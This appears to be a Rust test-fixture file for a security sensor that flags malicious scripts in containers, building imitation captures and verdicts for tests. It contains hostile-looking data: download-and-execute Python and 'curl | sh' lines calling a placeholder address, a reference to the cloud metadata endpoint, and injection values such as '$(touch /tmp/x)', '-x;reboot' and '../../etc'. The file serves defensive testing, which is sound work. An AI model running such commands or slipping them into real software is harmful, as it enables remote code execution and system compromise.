//! Findings to test with: harmless imitations, in the shapes in which captures arrive.

#![allow(clippy::expect_used, reason = "a case that cannot be made must stop the test")]

use evidence::*;
use std::collections::{BTreeMap, BTreeSet};

pub(crate) const NOON: Timestamp = Timestamp(1_795_262_400_250_000_000);

/// An imitation: it names a tool and an address that do not exist, and is never run.
pub(crate) const PYTHON: &str = "import os, urllib.request\n\
    url = 'http://203.0.113.7/tool'\n\
    urllib.request.urlretrieve(url, '/tmp/tool')\n\
    os.system('/tmp/tool --quiet')\n";

pub(crate) const SHELL: &str = "#!/bin/sh\ncurl -s https://203.0.113.7/x.sh | sh\n";

pub(crate) fn process(args: &[&str]) -> Process {
    Process {
        pid: 4242,
        pid_in_container: 17,
        parent_pid: 4200,
        started_at: NOON,
        start_ticks: 123_456,
        uid: 1000,
        gid: 1000,
        comm: "python3".into(),
        cwd: "/srv/app".into(),
        executable: Executable {
            path: "/usr/bin/python3.11".into(),
            size: Some(6_831_704),
            sha256: Some(Sha256::of(b"an interpreter")),
        },
        args: args.iter().map(|argument| Untrusted::from(*argument)).collect(),
        environment: vec!["PATH=/usr/bin:/bin".into(), "EMPTY=".into(), "no equals sign".into()],
        cgroup: "/kubepods.slice/kubepods-pod1.slice/cri-containerd-0123.scope".into(),
        namespaces: Namespaces {
            mount: 4_026_532_100,
            pid: 4_026_532_101,
            network: 4_026_532_102,
            user: 4_026_531_837,
        },
    }
}

pub(crate) fn container() -> Container {
    Container {
        id: "0123456789abcdef".repeat(4),
        runtime: Some(Runtime::Containerd),
        name: Some("app".to_owned()),
        image: Some("registry.example/shop/app:1.4".to_owned()),
        image_id: Some(format!("sha256:{}", "ab".repeat(32))),
        labels: BTreeMap::from([("tier".to_owned(), "web".to_owned())]),
        created_at: Some(Timestamp(NOON.0 - 3_600_000_000_000)),
        pod: Some(Pod {
            uid: Some("7d0bd2f1-0000-4000-8000-0123456789ab".to_owned()),
            namespace: Some("shop".to_owned()),
            name: Some("app-6f7c9d8b5-x2x4z".to_owned()),
            labels: BTreeMap::from([("app".to_owned(), "shop".to_owned())]),
        }),
        metadata: Metadata::Complete,
    }
}

pub(crate) fn file(content: &[u8], size: u64) -> WholeFile {
    WholeFile {
        identity: FileIdentity { device: 41, inode: 99, size, modified_at: NOON, changed_at: NOON },
        sha256: Some(Sha256::of(content)),
        hashed_size: size,
    }
}

pub(crate) fn script_file(path: &str, content: &[u8]) -> Script {
    Script {
        path: Some(path.into()),
        file: Some(file(content, content.len() as u64)),
        drift: Drift::WritableLayer,
        ..Script::new(ScriptKind::File, Content::Whole(content.into()))
    }
}

pub(crate) fn capture(args: &[&str], family: Family, script: Script) -> Capture {
    Capture {
        observed_at: NOON,
        process: process(args),
        interpreter: Interpreter { family },
        script,
        container: Some(container()),
        coverage: BTreeSet::new(),
        compiled: None,
        held: false,
    }
}

pub(crate) fn verdict(language: Language) -> Verdict {
    let reason = |indicator: &str, line, excerpt: &str, weight, technique| Reason {
        indicator: indicator.to_owned(),
        line,
        end_line: None,
        layer: None,
        excerpt: excerpt.to_owned(),
        weight,
        technique,
    };
    Verdict {
        label: Label::Malicious,
        score: 0.997_31,
        threshold: 0.9,
        language,
        model: "test-model@0123456789ab".to_owned(),
        reasons: vec![
            reason(
                "fetches a tool",
                Some(3),
                "urllib.request.urlretrieve(url, '/tmp/tool')",
                3.25,
                Some(Technique::IngressToolTransfer),
            ),
            reason(
                "reads the cloud's credentials",
                Some(4),
                "169.254.169.254",
                2.0,
                Some(Technique::CloudInstanceMetadataApi),
            ),
            reason("sends data out", None, "", 1.5, Some(Technique::ExfiltrationOverC2)),
            reason("unusual words", None, "", 0.5, None),
        ],
        layers: Vec::new(),
        unseen: Vec::new(),
    }
}

pub(crate) fn finding(capture: Capture, language: Language) -> Finding {
    Finding::new(capture, verdict(language), &Redaction::default()).expect("a malicious verdict on a text")
}

/// A Python file that was written at run time, in a Pod.
pub(crate) fn python_file() -> Finding {
    let script = script_file("/tmp/stage.py", PYTHON.as_bytes());
    finding(
        capture(&["python3", "/tmp/stage.py", "--token=hunter2"], Family::CPython, script),
        Language::Python,
    )
}

/// `python3 -c TEXT`.
pub(crate) fn python_inline() -> Finding {
    let script =
        Script { text_argument: Some(2), ..Script::new(ScriptKind::Inline, Content::Whole(PYTHON.into())) };
    finding(capture(&["python3", "-c", PYTHON, "after"], Family::CPython, script), Language::Python)
}

/// A shell script over standard input, as far as it was captured.
pub(crate) fn shell_stdin() -> Finding {
    let script = Script::new(ScriptKind::Stdin, Content::Whole(SHELL.into()));
    finding(capture(&["sh"], Family::Dash, script), Language::Shell)
}

/// A shell script that came with the image and is not UTF-8 from its second line on.
pub(crate) fn shell_not_utf_8() -> Finding {
    let mut text = b"#!/bin/sh\n# caf".to_vec();
    text.extend_from_slice(b"\xe9\ncurl -s http://203.0.113.7/x | sh\n");
    let script = Script { drift: Drift::Image, ..script_file("/opt/caf.sh", &text) };
    finding(capture(&["/bin/sh", "/opt/caf.sh"], Family::Busybox, script), Language::Shell)
}

/// A file larger than the capture limit, changed while it was read.
pub(crate) fn head_and_tail() -> Finding {
    let content =
        Content::HeadAndTail { head: PYTHON.into(), tail: "print('end')\n".into(), omitted: 3_000_000 };
    let size = PYTHON.len() as u64 + 3_000_000 + 13;
    let script = Script {
        path: Some("/data/big.py".into()),
        file: Some(file(b"the whole of it", size)),
        drift: Drift::Volume("/data".into()),
        ..Script::new(ScriptKind::File, content)
    };
    let mut capture = capture(&["python3", "/data/big.py"], Family::CPython, script);
    capture.coverage = BTreeSet::from([
        CoverageNote::HeadAndTail,
        CoverageNote::IdentityChanged,
        CoverageNote::ArgumentsCut,
    ]);
    let mut finding = finding(capture, Language::Python);
    finding.script_mut().unwrap().verdict.unseen = vec![Unseen::Layers, Unseen::PackedPayload];
    finding
}

/// A container of which nothing but the id is known.
pub(crate) fn no_metadata() -> Finding {
    let script = Script {
        module: Some("stage".into()),
        kind: ScriptKind::Module,
        ..script_file("/srv/app/stage.py", PYTHON.as_bytes())
    };
    let mut capture = capture(&["python3", "-m", "stage"], Family::PyPy, script);
    capture.container = Some(Container {
        metadata: Metadata::Missing("no runtime socket knows the container".to_owned()),
        ..Container::pending("demo", Some(Runtime::Runc))
    });
    finding(capture, Language::Python)
}

/// Every text of the container tries to do harm.
pub(crate) fn hostile() -> Finding {
    let evil = "\u{1b}[2J\u{202e}\"}]}\n$(touch /tmp/x)\0";
    let mut script = script_file(&format!("/tmp/{evil}.py"), evil.as_bytes());
    script.drift = Drift::Unknown(evil.to_owned());
    let mut capture = capture(&["python3", evil, "-;rm"], Family::CPython, script);
    capture.process.comm = Untrusted(b"\xff\xfe\x1b]0;x\x07".to_vec());
    capture.process.cwd = evil.into();
    capture.container = Some(Container {
        id: "../../etc".to_owned(),
        name: Some("-x;reboot".to_owned()),
        image: Some(evil.to_owned()),
        labels: BTreeMap::from([(evil.to_owned(), evil.to_owned())]),
        pod: Some(Pod { namespace: Some("$(id)".to_owned()), name: Some(evil.to_owned()), ..Pod::default() }),
        metadata: Metadata::Missing(evil.to_owned()),
        ..container()
    });
    let mut finding = finding(capture, Language::Python);
    finding.script_mut().unwrap().verdict.reasons[0].excerpt = evil.to_owned();
    finding.script_mut().unwrap().verdict.score = f32::NAN;
    finding
}

/// A script of the host itself, executed more than once.
pub(crate) fn host() -> Finding {
    let script = script_file("/root/x.sh", SHELL.as_bytes());
    let mut capture = capture(&["bash", "-x", "/root/x.sh"], Family::Bash, script);
    capture.container = None;
    capture.script.drift = Drift::Unknown("it ran in no container".to_owned());
    let mut finding = finding(capture, Language::Shell);
    finding.count = 1000;
    finding.last_seen = Timestamp(NOON.0 + 61_000_000_000);
    finding
}

/// Somebody stopped the sensor.
pub(crate) fn impaired() -> Finding {
    let gap = Gap {
        kind: GapKind::ProcessStopped,
        from: Timestamp::from_seconds(1_790_000_000),
        to: Timestamp::from_seconds(1_790_000_004),
        lost: None,
        detail: "the sensor (process 4242) was stopped; it was told to go on".to_owned(),
        container: None,
    };
    Finding::of_gap(&gap).expect("a gap that impairs")
}
